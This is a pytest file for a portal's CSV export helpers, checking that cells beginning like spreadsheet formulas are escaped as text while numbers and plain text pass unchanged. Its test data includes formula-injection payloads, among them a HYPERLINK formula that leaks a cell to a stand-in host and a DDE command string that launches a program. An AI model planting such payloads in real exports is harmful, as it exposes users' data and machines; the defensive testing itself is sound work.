"""csp_portal.exports: a cell a spreadsheet would run as a formula is written as text
(OWASP's rule), and numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest

from csp_portal.exports import CsvDictWriter, csv_response, csv_writer, safe_cell


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "=",
    ],
)
def test_a_cell_starting_like_a_formula_is_written_as_text(formula):
    assert safe_cell(formula) == "'" + formula


@pytest.mark.parametrize(
    "number", [-12, 0, 3.5, -0.25, Decimal("-500.00"), "-500.00", "+4.9%", "-10.6", "1,000.50"]
)
def test_numbers_stay_numbers_even_when_negative(number):
    assert safe_cell(number) == number


@pytest.mark.parametrize("text", ["Youth ASB Projects", "Q2 2022/23", "a=b", "", "−10.6%"])
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text


def test_none_stays_an_empty_cell():
    out = io.StringIO()
    csv_writer(out).writerow([None, "x"])
    assert out.getvalue() == ",x\r\n"


def test_the_writer_neutralises_every_cell_and_keeps_the_numbers():
    out = io.StringIO()
    csv_writer(out).writerows([["=1+1", -3, Decimal("-1.50")], ["@x", "ok", "-7"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", "-3", "-1.50"],
        ["'@x", "ok", "-7"],
    ]


def test_the_dict_writer_neutralises_values_not_the_header():
    out = io.StringIO()
    writer = CsvDictWriter(out, fieldnames=["Title", "Amount"])
    writer.writeheader()
    writer.writerow({"Title": "=HYPERLINK(1)", "Amount": "-5.00"})
    assert out.getvalue().splitlines() == ["Title,Amount", "'=HYPERLINK(1),-5.00"]


def test_a_csv_response_is_an_attachment_of_safe_cells():
    response = csv_response("t.csv", [["+danger", 1]], header=["a", "b"])
    assert response["Content-Disposition"] == 'attachment; filename="t.csv"'
    assert response.content.decode().splitlines() == ["a,b", "'+danger,1"]
